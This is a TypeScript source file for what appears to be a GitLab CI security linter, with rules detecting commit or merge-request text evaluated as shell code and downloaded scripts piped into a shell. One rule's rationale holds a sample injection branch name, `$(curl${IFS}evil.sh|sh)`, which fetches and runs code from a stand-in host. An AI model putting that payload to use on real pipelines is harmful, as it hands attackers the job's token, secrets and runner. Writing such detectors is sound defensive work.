import type { Provenance, Reporter } from "../../model.js";
import { findRemoteExecutions, readsProgramFromStdin } from "../../dockerfile/remote-script.js";
import { allCommands, invocation, pipelines, type ShellWord } from "../../dockerfile/shell.js";
import { textSpan } from "../../source-text.js";
import type { GitlabPipeline } from "../model.js";
import type { ScriptLine } from "../scripts.js";
import { referencedVariables, UNTRUSTED_VARIABLES } from "../untrusted.js";
import { allScriptLines, CI_YAML, gitlabRule, variableLookup } from "./define.js";

const SHELLS = new Set(["sh", "bash", "zsh", "dash", "ash", "ksh"]);

interface Taint {
  source: string;
  provenance: Provenance[];
}

export const commitDataInjection = gitlabRule({
  id: "GITLAB-001",
  title: "Commit or merge request text is evaluated as shell code",
  severity: "high",
  rationale:
    "Commit messages, branch names and merge request titles are written by whoever pushes or opens the merge request; a branch may be named `$(curl${IFS}evil.sh|sh)`. Passing them to `eval`, `sh -c` or a pipe into a shell turns that text into commands running with the job's CI_JOB_TOKEN, variables and runner.",
  remediation:
    'Use such variables only as quoted data (`echo "$CI_COMMIT_TITLE"`), never in eval, `sh -c` strings or generated scripts; validate branch names against a strict pattern before using them.',
  references: [
    "https://docs.gitlab.com/ci/variables/predefined_variables/",
    "https://docs.gitlab.com/ci/pipeline_security/",
    "https://cwe.mitre.org/data/definitions/78.html",
  ],
  check(pipeline, report) {
    for (const line of allScriptLines(pipeline)) {
      const lookup = variableLookup(pipeline, line.site);
      const taintOf = (name: string): Taint | undefined => {
        if (UNTRUSTED_VARIABLES.has(name)) return { source: name, provenance: [] };
        const defined = lookup(name);
        const inner = defined
          ? referencedVariables(defined.value).find((v) => UNTRUSTED_VARIABLES.has(v))
          : undefined;
        return defined && inner
          ? {
              source: inner,
              provenance: [
                { description: `${name} is set from $${inner}`, span: pipeline.spanOf(defined.node) },
              ],
            }
          : undefined;
      };
      const flag = (word: ShellWord, how: string): void => {
        for (const variable of word.variables) {
          const taint = taintOf(variable.name);
          if (taint)
            reportAt(
              pipeline,
              line,
              report,
              variable.start,
              variable.end,
              `$${variable.name} ${taint.source !== variable.name ? `(from $${taint.source}) ` : ""}${how}`,
              taint.provenance,
            );
        }
      };
      for (const command of allCommands(line.shell)) {
        const call = invocation(command);
        if (!call) continue;
        flag(call.programWord, "is run as a command");
        if (call.program === "eval") for (const arg of call.args) flag(arg, "is evaluated by eval");
        if (SHELLS.has(call.program)) {
          const inline = call.args.findIndex((a) => a.value === "-c");
          const code = call.args[inline + 1];
          if (inline >= 0 && code) flag(code, `is part of the code given to ${call.program} -c`);
        }
      }
      for (const pipeline_ of pipelines(line.shell)) {
        const runner = pipeline_.findIndex((c, i) => i > 0 && readsProgramFromStdin(c));
        if (runner < 0) continue;
        for (const command of pipeline_.slice(0, runner))
          for (const word of command.words) flag(word, "is piped into a shell");
      }
    }
  },
});

function reportAt(
  pipeline: GitlabPipeline,
  line: ScriptLine,
  report: Reporter,
  start: number,
  end: number,
  message: string,
  provenance: Provenance[] = [],
): void {
  const file = pipeline.files.get(line.node.file);
  if (!file) return;
  report({
    message,
    span: textSpan(file.lines, line.text, start, end),
    resource: line.site.name,
    provenance,
  });
}

export const remoteScript = gitlabRule({
  id: "GITLAB-002",
  title: "A downloaded script is piped into a shell",
  severity: "high",
  rationale:
    "`curl … | sh` runs whatever the server sends, unverified, with the job's token, variables and runner: a compromised download site, DNS or proxy controls the pipeline.",
  remediation:
    "Download to a file and verify its checksum or signature before running it, or use a pinned image that contains the tool.",
  references: [CI_YAML + "#script", "https://docs.gitlab.com/ci/pipeline_security/"],
  check(pipeline, report) {
    for (const line of allScriptLines(pipeline))
      for (const found of findRemoteExecutions(line.shell))
        reportAt(
          pipeline,
          line,
          report,
          found.start,
          found.end,
          `${found.description} runs a script fetched over the network without verifying it`,
        );
  },
});
